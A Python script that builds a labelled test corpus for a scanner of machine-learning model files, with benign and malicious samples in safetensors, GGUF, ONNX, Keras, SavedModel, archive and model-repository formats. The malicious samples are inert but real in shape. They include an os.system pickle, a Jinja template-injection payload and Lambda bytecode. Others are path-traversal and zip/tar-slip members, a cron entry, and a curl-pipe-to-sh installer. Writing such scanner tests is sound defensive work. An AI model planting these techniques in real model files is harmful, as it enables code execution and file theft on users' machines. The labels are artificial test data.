"""Corpus samples for the non-pickle scanners (Python 3 standard library only).

generate(out_dir) writes out_dir/formats/... and returns labels:
    {"path": "formats/...", "verdict": "block|warn|pass", "codes": [...], "technique": "...", "format": "..."}
`path` is a file, or a folder for repository-level samples (scan the whole folder). `format` (file
labels only) is what content detection should call the file; `codes` are finding codes the scanner
must report (at least those). Every "malicious" sample is inert: nothing here loads them, and the
payloads would at most touch /tmp/garden-scan-marker.
"""
import base64
import gzip
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile

MARKER_CMD = "touch /tmp/garden-scan-marker"


class _Evil:
    """Pickles to a call of os.system (never unpickled here)."""

    def __reduce__(self):
        return (os.system, (MARKER_CMD,))


def evil_pickle() -> bytes:
    return pickle.dumps(_Evil(), protocol=4)


# --------------------------------------------------------------------------------------------
# Protobuf wire format, just enough for ONNX and SavedModel.

def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_int(field: int, n: int) -> bytes:
    return varint(field << 3) + varint(n)


def pb_bytes(field: int, b: bytes) -> bytes:
    return varint((field << 3) | 2) + varint(len(b)) + b


def pb_str(field: int, s: str) -> bytes:
    return pb_bytes(field, s.encode())


# --------------------------------------------------------------------------------------------

class Corpus:
    def __init__(self, out_dir: str):
        self.root = out_dir
        self.labels = []

    def write(self, rel: str, data: bytes, verdict: str, codes, technique: str, fmt=None, label=True) -> str:
        path = os.path.join(self.root, "formats", rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        if label:
            self.label(rel, verdict, codes, technique, fmt)
        return path

    def label(self, rel: str, verdict: str, codes, technique: str, fmt=None) -> None:
        entry = {"path": "formats/" + rel, "verdict": verdict, "codes": list(codes), "technique": technique}
        if fmt:
            entry["format"] = fmt
        self.labels.append(entry)


# ---------------------------------------------------------------------------- safetensors

def safetensors(header, data: bytes, raw_header: bytes = None, length=None) -> bytes:
    h = raw_header if raw_header is not None else json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    n = len(h) if length is None else length
    return struct.pack("<Q", n) + h + data


def gen_safetensors(c: Corpus) -> None:
    t = lambda dtype, shape, a, b: {"dtype": dtype, "shape": shape, "data_offsets": [a, b]}
    good = {"__metadata__": {"format": "pt"}, "a": t("F32", [2, 2], 0, 16), "b": t("I64", [1], 16, 24)}
    c.write("safetensors/good.safetensors", safetensors(good, bytes(24)), "pass", [], "benign safetensors", "safetensors")
    bad = [
        ("bad-json", None, b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]', bytes(4), ["SAFETENSORS_HEADER"], "header is not valid JSON"),
        ("bad-utf8", None, b'{"\xff\xfe":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4), ["SAFETENSORS_BAD_UTF8"], "header is not UTF-8"),
        ("duplicate-key", None, b'{"a":' + json.dumps(t("F32", [4], 0, 16)).encode() + b',"a":' + json.dumps(t("F32", [4], 16, 32)).encode() + b"}", bytes(32),
         ["SAFETENSORS_DUPLICATE_KEY"], "duplicate tensor key (JSON parsers keep different copies)"),
        ("bad-dtype", {"a": t("F128", [1], 0, 16)}, None, bytes(16), ["SAFETENSORS_DTYPE"], "unknown dtype"),
        ("size-mismatch", {"a": t("F32", [3], 0, 16)}, None, bytes(16), ["SAFETENSORS_SIZE_MISMATCH"], "dtype x shape differs from the byte range"),
        ("overlap", {"a": t("F32", [4], 0, 16), "b": t("F32", [4], 8, 24)}, None, bytes(24), ["SAFETENSORS_OVERLAP"], "overlapping tensors"),
        ("out-of-range", {"a": t("F32", [16], 0, 64)}, None, bytes(16), ["SAFETENSORS_OUT_OF_RANGE"], "offsets beyond the data area"),
        ("trailing-pickle", {"a": t("F32", [4], 0, 16)}, None, bytes(16) + evil_pickle(), ["SAFETENSORS_TRAILING_DATA"], "pickle hidden after the last tensor"),
        ("metadata-not-string", {"__metadata__": {"n": 1}, "a": t("F32", [1], 0, 4)}, None, bytes(4), ["SAFETENSORS_METADATA"], "__metadata__ value is not a string"),
    ]
    for name, header, raw, data, codes, technique in bad:
        c.write(f"safetensors/{name}.safetensors", safetensors(header, data, raw), "block", codes, technique, "safetensors")
    # A length beyond the file: content detection cannot call it safetensors, so it is unknown (block either way).
    c.write("safetensors/header-length.safetensors", safetensors({"a": t("F32", [1], 0, 4)}, bytes(4), length=10_000), "block", [], "header length beyond the file")


# ---------------------------------------------------------------------------- GGUF

def g_str(s) -> bytes:
    b = s if isinstance(s, bytes) else s.encode()
    return struct.pack("<Q", len(b)) + b


def g_kv(key: str, vtype: int, value: bytes) -> bytes:
    return g_str(key) + struct.pack("<I", vtype) + value


def gguf(kvs, tensors, data_len=None, align=32, version=3) -> bytes:
    """tensors: (name, dims, ggml_type, offset, nbytes)."""
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(kvs)) + b"".join(kvs)
    for name, dims, ttype, offset, _ in tensors:
        head += g_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", ttype, offset)
    head += bytes(-len(head) % align)
    if data_len is None:
        data_len = 0
        for _, _, _, offset, nbytes in tensors:
            data_len = max(data_len, offset + nbytes + (-nbytes % align))
    return head + bytes(data_len)


def gen_gguf(c: Corpus) -> None:
    tokens = [b"<s>", b"</s>", b"hello", b"world"]
    template = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}<|assistant|>"
    kvs = [
        g_kv("general.architecture", 8, g_str("llama")),
        g_kv("general.alignment", 4, struct.pack("<I", 32)),
        g_kv("llama.context_length", 4, struct.pack("<I", 2048)),
        g_kv("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, len(tokens)) + b"".join(g_str(t) for t in tokens)),
        g_kv("tokenizer.chat_template", 8, g_str(template)),
    ]
    tensors = [("tok_embd.weight", [4], 0, 0, 16), ("output.weight", [8, 2], 1, 32, 32)]
    good = gguf(kvs, tensors)
    c.write("gguf/good.gguf", good, "pass", [], "benign GGUF with a plain chat template", "gguf")
    c.write("gguf/truncated.gguf", good[: good.index(b"{% for") + 20], "block", ["GGUF_TRUNCATED"], "file cut inside the metadata", "gguf")
    bad_type = gguf(kvs[:2] + [g_kv("general.name", 13, b"\x00" * 8)], tensors)
    c.write("gguf/bad-value-type.gguf", bad_type, "block", ["GGUF_VALUE_TYPE"], "metadata value of unknown type", "gguf")
    oob = gguf(kvs, [("tok_embd.weight", [4], 0, 0, 16), ("output.weight", [4096, 4096], 0, 32, 16)], data_len=64)
    c.write("gguf/tensor-out-of-bounds.gguf", oob, "block", ["GGUF_OUT_OF_RANGE"], "tensor data beyond the end of the file", "gguf")
    ssti = "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['os'].popen('" + MARKER_CMD + "').read() }}"
    evil_kvs = kvs[:4] + [g_kv("tokenizer.chat_template", 8, g_str(ssti))]
    c.write("gguf/chat-template-ssti.gguf", gguf(evil_kvs, tensors), "block", ["CHAT_TEMPLATE_INJECTION"], "Jinja chat template injection (CVE-2024-34359 shape)", "gguf")


# ---------------------------------------------------------------------------- ONNX

def onnx_model(location=None, domain="", op="Add", extra_opset=None) -> bytes:
    tensor = pb_int(1, 4) + pb_int(2, 1) + pb_str(8, "w")
    if location is not None:
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            tensor += pb_bytes(13, pb_str(1, k) + pb_str(2, v))
        tensor += pb_int(14, 1)
    else:
        tensor += pb_bytes(9, bytes(16))
    node = pb_str(1, "x") + pb_str(1, "w") + pb_str(2, "y") + pb_str(3, "n0") + pb_str(4, op)
    if domain:
        node += pb_str(7, domain)
    graph = pb_bytes(1, node) + pb_str(2, "g") + pb_bytes(5, tensor) + pb_bytes(11, pb_str(1, "x")) + pb_bytes(12, pb_str(1, "y"))
    model = pb_int(1, 8) + pb_str(2, "garden-corpus") + pb_bytes(7, graph) + pb_bytes(8, pb_str(1, "") + pb_int(2, 17))
    if extra_opset:
        model += pb_bytes(8, pb_str(1, extra_opset) + pb_int(2, 1))
    return model


def gen_onnx(c: Corpus) -> None:
    c.write("onnx/embedded/model.onnx", onnx_model(), "pass", [], "benign ONNX with embedded weights", "onnx")
    c.write("onnx/inside/model.onnx", onnx_model("weights.bin"), "pass", [], "external data inside the model folder", "onnx")
    c.write("onnx/inside/weights.bin", bytes(16), "pass", [], "", label=False)
    c.write("onnx/traversal/model.onnx", onnx_model("../../../../../../etc/passwd"), "block", ["ONNX_EXTERNAL_DATA_PATH"], "external data ../../etc/passwd", "onnx")
    c.write("onnx/absolute/model.onnx", onnx_model("/etc/passwd"), "block", ["ONNX_EXTERNAL_DATA_PATH"], "external data at an absolute path", "onnx")
    c.write("onnx/missing/model.onnx", onnx_model("nothere.bin"), "block", ["ONNX_EXTERNAL_DATA_MISSING"], "external data file missing", "onnx")
    c.write("onnx/custom-domain/model.onnx", onnx_model(domain="com.example.ops", op="RunPlugin", extra_opset="com.example.ops"), "warn", ["ONNX_CUSTOM_OP"],
            "operator from a custom domain (native plugin)", "onnx")
    c.write("onnx/truncated.onnx", onnx_model()[:-7], "block", [], "truncated protobuf (not recognisable as ONNX)")


# ---------------------------------------------------------------------------- Keras

def keras_dense(name="dense"):
    return {
        "module": "keras.layers", "class_name": "Dense", "registered_name": None,
        "config": {"name": name, "trainable": True, "units": 2, "activation": "relu", "use_bias": True,
                   "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None},
                   "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None}},
        "build_config": {"input_shape": [None, 4]},
    }


def keras_model(layers):
    return {
        "module": "keras", "class_name": "Sequential", "registered_name": None,
        "config": {"name": "sequential", "trainable": True,
                   "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
                   "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                               "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}}] + layers},
        "build_config": {"input_shape": [None, 4]},
        "compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.001}, "registered_name": None}, "loss": "mse"},
    }


HDF5_SIGNATURE = b"\x89HDF\r\n\x1a\n"


def fake_h5(attrs: bytes = b"") -> bytes:
    # Not a complete HDF5 file: the signature, padding and the attribute text the scanner searches.
    return HDF5_SIGNATURE + bytes(248) + attrs + bytes(256)


def keras_zip(config) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", fake_h5())
    return buf.getvalue()


def gen_keras(c: Corpus) -> None:
    c.write("keras/clean.keras", keras_zip(keras_model([keras_dense()])), "pass", [], "Keras v3 model without Lambda layers", "keras")
    code = marshal.dumps((lambda x: __import__("os").system(MARKER_CMD) or x).__code__)
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
           "config": {"name": "lambda", "trainable": True, "arguments": {},
                      "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(), "defaults": None, "closure": None}}}}
    c.write("keras/lambda.keras", keras_zip(keras_model([lam, keras_dense()])), "block", ["KERAS_LAMBDA"], "Keras Lambda layer with Python bytecode", "keras")
    fn = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    c.write("keras/get-file.keras", keras_zip(keras_model([dict(keras_dense(), config=dict(keras_dense()["config"], activation=fn))])), "block",
            ["KERAS_UNSAFE_FUNCTION"], "config calls keras.utils.get_file while loading (CVE-2025-8747 shape)", "keras")
    osmod = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    c.write("keras/os-module.keras", keras_zip(keras_model([dict(keras_dense(), config=dict(keras_dense()["config"], activation=osmod))])), "block",
            ["KERAS_UNSAFE_MODULE"], "config imports os.system (CVE-2025-1550 shape)", "keras")
    custom = dict(keras_dense("custom"), module="my_layers", class_name="MyDense", registered_name="my_layers>MyDense")
    c.write("keras/custom-object.keras", keras_zip(keras_model([custom])), "warn", ["KERAS_CUSTOM_OBJECT"], "custom layer class from another package", "keras")
    legacy = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "Lambda", "config": {"name": "lambda", "function": [base64.b64encode(code).decode(), None, None], "function_type": "lambda"}},
        {"class_name": "Dense", "config": {"name": "dense", "units": 2}}]}}
    c.write("keras/legacy-lambda.h5", fake_h5(b"model_config\x00" + json.dumps(legacy).encode() + b"\x00"), "block", ["KERAS_LAMBDA"], "legacy HDF5 model_config with a Lambda layer", "hdf5")
    c.write("keras/weights-only.h5", fake_h5(), "pass", [], "HDF5 weights without a model config", "hdf5")


# ---------------------------------------------------------------------------- SavedModel

def tf_node(name: str, op: str, inputs=(), strings=None) -> bytes:
    b = pb_str(1, name) + pb_str(2, op) + b"".join(pb_str(3, i) for i in inputs)
    if strings is not None:
        tensor = pb_int(1, 7) + b"".join(pb_bytes(8, s.encode()) for s in strings)
        b += pb_bytes(5, pb_str(1, "value") + pb_bytes(2, pb_bytes(8, tensor)))
    return b


def saved_model(nodes) -> bytes:
    graph = b"".join(pb_bytes(1, n) for n in nodes)
    meta = pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta)


def saver_nodes():
    return [
        tf_node("saver_filename", "Placeholder"),
        tf_node("Const", "Const", strings=["_temp/part"]),
        tf_node("StringJoin", "StringJoin", ["saver_filename", "Const"]),
        tf_node("num_shards", "Const"),
        tf_node("ShardedFilename", "ShardedFilename", ["StringJoin", "num_shards", "num_shards"]),
        tf_node("tensor_names", "Const", strings=["layer/kernel/.ATTRIBUTES/VARIABLE_VALUE"]),
        tf_node("SaveV2", "SaveV2", ["ShardedFilename", "tensor_names", "tensor_names", "ReadVariableOp"]),
        tf_node("ReadVariableOp", "ReadVariableOp", ["kernel"]),
        tf_node("Pack", "Pack", ["ShardedFilename", "^SaveV2"]),
        tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", ["Pack", "saver_filename"]),
        tf_node("RestoreV2", "RestoreV2", ["saver_filename", "tensor_names", "tensor_names"]),
    ]


def gen_savedmodel(c: Corpus) -> None:
    c.write("savedmodel/clean/saved_model.pb", saved_model(saver_nodes()), "pass", [], "SavedModel with only the standard save/restore graph", "savedmodel")
    c.write("savedmodel/pyfunc/saved_model.pb", saved_model(saver_nodes() + [tf_node("py", "PyFunc", ["x"])]), "block", ["TF_PYTHON_OP"], "PyFunc op", "savedmodel")
    readfile = [tf_node("path", "Const", strings=["/etc/passwd"]), tf_node("ReadFile", "ReadFile", ["path"])]
    c.write("savedmodel/readfile/saved_model.pb", saved_model(saver_nodes() + readfile), "block", ["TF_FILE_ACCESS"], "ReadFile of /etc/passwd", "savedmodel")
    fixed = [tf_node("evil_path", "Const", strings=["/home/user/.bashrc"]), tf_node("names", "Const", strings=["x"]),
             tf_node("SaveV2_1", "SaveV2", ["evil_path", "names", "names", "x"])]
    c.write("savedmodel/save-fixed-path/saved_model.pb", saved_model(saver_nodes() + fixed), "block", ["TF_FILE_ACCESS"], "SaveV2 writing to a fixed host path", "savedmodel")


def gen_tflite(c: Corpus) -> None:
    c.write("tflite/model.tflite", struct.pack("<I", 16) + b"TFL3" + bytes(56), "pass", [], "TFLite flatbuffer (recognised only)", "tflite")


# ---------------------------------------------------------------------------- archives

def zip_bytes(members, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """members: (ZipInfo or name, data)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for info, data in members:
            z.writestr(info, data)
    return buf.getvalue()


def good_safetensors() -> bytes:
    return safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))


def tar_bytes(entries, fmt=tarfile.PAX_FORMAT, mode="w") -> bytes:
    """entries: (TarInfo, data or None)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=fmt) as tf:
        for info, data in entries:
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)
    return buf.getvalue()


def tinfo(name, type_=tarfile.REGTYPE, link="", mode=0o644):
    ti = tarfile.TarInfo(name)
    ti.type = type_
    ti.linkname = link
    ti.mode = mode
    ti.mtime = 1700000000
    return ti


def gen_archives(c: Corpus) -> None:
    clean = [("README.md", b"# weights\n"), ("model.safetensors", good_safetensors())]
    c.write("archive/clean.zip", zip_bytes(clean), "pass", [], "clean zip", "zip")
    c.write("archive/zip-slip.zip", zip_bytes([("../../evil.txt", b"x")]), "block", ["ZIP_SLIP"], "zip member climbing out with ..", "zip")
    c.write("archive/zip-absolute.zip", zip_bytes([("/etc/cron.d/evil", b"* * * * * root " + MARKER_CMD.encode() + b"\n")]), "block", ["ZIP_SLIP"], "zip member with an absolute path", "zip")
    link = zipfile.ZipInfo("config.json")
    link.create_system = 3
    link.external_attr = (0o120777 << 16)
    c.write("archive/zip-symlink.zip", zip_bytes([(link, b"/etc/passwd")]), "block", ["ZIP_SYMLINK"], "zip member that is a symbolic link", "zip")
    c.write("archive/zip-bomb.zip", zip_bytes([("zeros.bin", bytes(80 * 1024 * 1024))]), "block", ["ZIP_BOMB"], "highly compressible member (ratio > 200, over 64 MiB)", "zip")
    crc = bytearray(zip_bytes([("data.txt", b"hello model weights " * 8)], zipfile.ZIP_STORED))
    name_len, extra_len = struct.unpack("<HH", crc[26:30])
    crc[30 + name_len + extra_len + 3] ^= 0xFF
    c.write("archive/zip-crc.zip", bytes(crc), "block", ["ZIP_CRC"], "member data altered after the CRC was written", "zip")
    inner = zip_bytes([("evil.pkl", evil_pickle())])
    c.write("archive/nested-pickle.zip", zip_bytes([("README.md", b"ok\n"), ("inner.zip", inner)]), "block", ["PICKLE_CODE_EXECUTION"], "zip inside a zip holding a malicious pickle", "zip")
    deep = evil_pickle()
    for i in range(6):
        deep = zip_bytes([(f"level{i}.zip" if i else "evil.pkl", deep)])
    c.write("archive/too-deep.zip", deep, "block", ["SCAN_LIMIT"], "archives nested deeper than the limit", "zip")

    def clean_tar():
        return [(tinfo("README.md"), b"# weights\n"), (tinfo("model.safetensors"), good_safetensors())]

    c.write("archive/clean.tar", tar_bytes(clean_tar()), "pass", [], "clean tar", "tar")
    c.write("archive/tar-slip.tar", tar_bytes([(tinfo("../../../tmp/evil.sh"), b"#!/bin/sh\n" + MARKER_CMD.encode() + b"\n")]), "block", ["TAR_SLIP"], "tar member climbing out with ..", "tar")
    c.write("archive/tar-symlink.tar", tar_bytes([(tinfo("config.json", tarfile.SYMTYPE, "/etc/passwd"), None)]), "block", ["TAR_SYMLINK"], "tar symlink to /etc/passwd", "tar")
    c.write("archive/tar-hardlink.tar", tar_bytes([(tinfo("shadow", tarfile.LNKTYPE, "../../etc/shadow"), None)]), "block", ["TAR_HARDLINK"], "tar hard link out of the folder", "tar")
    dev = tinfo("dev-null", tarfile.CHRTYPE)
    dev.devmajor, dev.devminor = 1, 3
    c.write("archive/tar-device.tar", tar_bytes([(dev, None)], fmt=tarfile.USTAR_FORMAT), "block", ["TAR_DEVICE"], "tar member that is a device file", "tar")
    c.write("archive/clean.tar.gz", gzip.compress(tar_bytes(clean_tar()), mtime=0), "pass", [], "clean gzip-compressed tar", "gzip")
    c.write("archive/slip.tar.gz", gzip.compress(tar_bytes([(tinfo("../evil.txt"), b"x")]), mtime=0), "block", ["TAR_SLIP"], "tar slip inside gzip", "gzip")
    c.write("archive/pickle.pkl.gz", gzip.compress(evil_pickle(), mtime=0), "block", ["PICKLE_CODE_EXECUTION"], "gzip-compressed malicious pickle (read as joblib does)", "joblib")
    c.write("archive/gzip-bomb.gz", gzip.compress(bytes(80 * 1024 * 1024), compresslevel=1, mtime=0), "block", ["GZIP_BOMB"], "gzip expanding more than 200x, over 64 MiB", "gzip")


# ---------------------------------------------------------------------------- repository

def gen_repository(c: Corpus) -> None:
    cfg = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8, "torch_dtype": "float32"}
    tok_cfg = {"bos_token": "<s>", "eos_token": "</s>", "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}
    for rel, data in (("config.json", json.dumps(cfg)), ("tokenizer_config.json", json.dumps(tok_cfg)), ("tokenizer.json", json.dumps({"version": "1.0", "model": {"type": "BPE"}})),
                      ("README.md", "# A small model\n"), ("generation_config.json", json.dumps({"max_length": 32}))):
        c.write(f"repo/clean/{rel}", data.encode(), "pass", [], "", label=False)
    c.write("repo/clean/model.safetensors", good_safetensors(), "pass", [], "", label=False)
    c.label("repo/clean", "pass", [], "clean Hugging Face folder (config.json without auto_map)")

    c.write("repo/shell/install.sh", b"#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", "block", ["SHELL_SCRIPT"], "shell script in a model folder", "shell")
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
    c.write("repo/native/libcustom_op.so", elf, "block", ["NATIVE_EXECUTABLE"], "ELF shared library shipped with a model", "executable")
    remote = (
        "import os\nimport torch\n\n\nclass XModel(torch.nn.Module):\n"
        "    def __init__(self, config):\n        super().__init__()\n        os.system('" + MARKER_CMD + "')\n"
    )
    c.write("repo/remote-code/modeling_x.py", remote.encode(), "block", ["PYTHON_DANGEROUS_CODE"], "remote code that runs a command on import", "python")
    benign = "import torch\n\n\nclass YModel(torch.nn.Module):\n    def forward(self, x):\n        return self.proj(x).eval() if False else x\n"
    c.write("repo/benign-code/modeling_y.py", benign.encode(), "warn", ["PYTHON_CODE"], "remote code without dangerous constructs (needs review)", "python")
    auto = dict(cfg, auto_map={"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}, trust_remote_code=True)
    c.write("repo/auto-map/config.json", json.dumps(auto).encode(), "warn", ["HF_REMOTE_CODE", "HF_TRUST_REMOTE_CODE"], "config.json with auto_map and trust_remote_code (custom code: review)", "json")
    # Custom code folders: benign custom code is for a reviewer (warn); custom code that runs
    # commands, writes outside its folder or downloads blocks; code from another repository blocks.
    configuration = "class XConfig:\n    model_type = 'x'\n"
    for name, extra, verdict, codes, what in (
        ("custom-benign", "", "warn", ["HF_REMOTE_CODE", "PYTHON_CODE"], "auto_map custom code without dangerous calls (review)"),
        ("custom-system", "\nimport os\nos.system('" + MARKER_CMD + "')\n", "block", ["HF_REMOTE_CODE", "PYTHON_DANGEROUS_CODE"], "auto_map custom code that runs a command"),
        ("custom-writes", "\nopen('/tmp/garden-scan-marker', 'w').write('x')\n", "block", ["PYTHON_DANGEROUS_CODE"], "auto_map custom code that writes outside its folder"),
        ("custom-downloads", "\nfrom huggingface_hub import hf_hub_download\nhf_hub_download('org/x', 'extra.py')\n", "block", ["PYTHON_DANGEROUS_CODE"], "auto_map custom code that downloads at run time"),
    ):
        c.write(f"repo/{name}/config.json", json.dumps(dict(cfg, auto_map={"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"})).encode(), "", [], "", label=False)
        c.write(f"repo/{name}/configuration_x.py", configuration.encode(), "", [], "", label=False)
        c.write(f"repo/{name}/modeling_x.py", (benign + extra).encode(), "", [], "", label=False)
        c.write(f"repo/{name}/model.safetensors", good_safetensors(), "", [], "", label=False)
        c.label(f"repo/{name}", verdict, codes, what)
    foreign = dict(cfg, auto_map={"AutoModel": "other-org/other-repo--modeling_z.ZModel"})
    c.write("repo/auto-map-foreign/config.json", json.dumps(foreign).encode(), "block", ["HF_REMOTE_CODE_EXTERNAL"], "auto_map naming code in another repository (downloaded at load, never scanned)", "json")
    c.write("repo/broken/config.json", b'{"architectures": ["X"],', "block", ["JSON_INVALID"], "config.json that does not parse", "json")
    c.write("repo/unknown/blob.bin", bytes([0x00, 0xFF, 0xFE, 0x13, 0x37]) * 64, "block", ["UNKNOWN_FORMAT"], "unknown binary inside a model folder", "unknown")


def generate(out_dir: str):
    c = Corpus(out_dir)
    for gen in (gen_safetensors, gen_gguf, gen_onnx, gen_keras, gen_savedmodel, gen_tflite, gen_archives, gen_repository):
        gen(c)
    return c.labels
